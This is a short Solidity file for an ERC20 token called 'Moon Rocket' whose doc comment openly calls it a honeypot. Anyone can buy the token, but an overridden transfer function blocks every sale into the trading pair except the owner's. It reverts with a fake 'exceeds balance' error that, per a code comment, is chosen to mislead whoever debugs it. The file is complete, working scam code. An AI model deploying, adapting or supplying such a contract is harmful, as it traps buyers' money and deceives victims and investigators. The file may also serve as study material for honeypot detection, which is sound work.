// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {ERC20, Ownable, IDexRouter, IDexFactory} from "./Base.sol";

/// @title Honeypot: anyone can buy, but only the owner can sell into the pair.
contract MoonRocket is ERC20, Ownable {
    address public immutable uniswapV2Pair;
    mapping(address => bool) private _canSell;

    constructor(address router, uint256 supply) ERC20("Moon Rocket", "MOON") Ownable(msg.sender) {
        IDexRouter r = IDexRouter(router);
        uniswapV2Pair = IDexFactory(r.factory()).createPair(address(this), r.WETH());
        _canSell[msg.sender] = true;
        _mint(msg.sender, supply);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == uniswapV2Pair && !_canSell[from]) {
            // Looks like an ordinary balance error to whoever debugs the revert.
            revert("ERC20: transfer amount exceeds balance");
        }
        _move(from, to, value);
    }
}
